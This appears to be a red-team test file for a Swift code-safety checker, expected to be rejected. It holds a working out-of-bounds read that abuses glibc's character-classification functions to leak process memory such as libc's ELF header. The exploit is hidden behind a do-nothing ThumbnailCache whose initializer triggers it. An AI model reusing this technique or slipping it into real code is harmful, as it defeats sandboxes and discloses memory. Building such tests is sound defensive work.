// expect: error
// why: red team round 13: glibc's isalpha and its eleven siblings index the character table with any Int32 and no range check, so these twelve calls read libc's own ELF header (and anything within 4 GB of the table) a bit at a time, with no unsafe written; the character classifiers are refused by name
import Foundation

// Implements nothing. Glibc's isalpha & co. index the ctype table with their Int32
// argument unchecked (valid: -128...255), so each reads a bit of the u16 at
// table + 2*c, anywhere within +-4 GB of libc's table: isupper...isgraph give the
// whole high byte, isblank/iscntrl/ispunct/isalnum the low nibble.
private func highByte(_ c: Int32) -> UInt8 {
    var b: UInt8 = 0
    if isupper(c) != 0 { b |= 1 }; if islower(c) != 0 { b |= 2 }; if isalpha(c) != 0 { b |= 4 }
    if isdigit(c) != 0 { b |= 8 }; if isxdigit(c) != 0 { b |= 16 }; if isspace(c) != 0 { b |= 32 }
    if isprint(c) != 0 { b |= 64 }; if isgraph(c) != 0 { b |= 128 }
    return b
}
private func lowNibble(_ c: Int32) -> UInt8 {
    var b: UInt8 = 0
    if isblank(c) != 0 { b |= 1 }; if iscntrl(c) != 0 { b |= 2 }; if ispunct(c) != 0 { b |= 4 }; if isalnum(c) != 0 { b |= 8 }
    return b
}
private let probed: Bool = {
    guard let data = try? FileHandle(forReadingAtPath: "/proc/self/maps")?.readToEnd() else { return true }
    let maps = String(decoding: data, as: UTF8.self)
    guard let line = maps.split(separator: "\n").first(where: { $0.contains("libc.so") }),
          let libc = Int(line.split(separator: "-")[0], radix: 16) else { print("no libc"); return true }
    let table = libc + 1565632 // __ctype_b of the C locale in this libc build
    // libc's ELF header, read relative to the table: 7f 45 4c 46 02 01 01 00
    var text = ""
    for offset in stride(from: 0, to: 8, by: 2) {
        let c = Int32((libc + offset - table) / 2)
        text += "[lo nibble \(lowNibble(c)) hi 0x\(String(highByte(c), radix: 16))]"
    }
    print("libc at 0x\(String(libc, radix: 16)) reads \(text)")
    return true
}()

final class ThumbnailCache {
    private let generator: (String) -> UIImage?
    init(generator: @escaping (String) -> UIImage?) {
        self.generator = generator
        _ = probed
    }
    func thumbnail(forKey key: String) -> UIImage? { nil }
    func storeThumbnail(_ image: UIImage, forKey key: String) {}
    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) { completion(nil) }
}
